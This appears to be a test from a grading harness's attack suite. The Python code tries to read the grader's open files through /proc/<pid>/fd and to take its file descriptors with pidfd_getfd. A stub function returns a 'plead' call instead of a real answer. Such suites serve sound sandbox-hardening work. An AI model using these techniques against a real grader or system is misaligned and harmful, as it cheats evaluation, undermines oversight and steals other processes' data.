"""Takes the open files of the processes that grade: by their folders in /proc, and by a descriptor of the process."""

import os

from tests.attacks.kit import Path, claim, contextlib, libc, loot, plead, read, relatives

AIM = "parent"
PIDFD_GETFD = 438

for pid in dict.fromkeys([os.getppid(), *relatives()]):
    with contextlib.suppress(OSError):
        for path in sorted(Path(f"/proc/{pid}/fd").iterdir()):
            claim("the descriptors of the grader can be listed")
            if path.is_file():  # a pipe or socket would be waited for
                loot(read(path))
    with contextlib.suppress(OSError):
        process = os.pidfd_open(pid)
        for number in range(8):
            if libc.syscall(PIDFD_GETFD, process, number, 0) >= 0:
                claim("a descriptor of the grader can be taken")


def double(x):
    return plead()
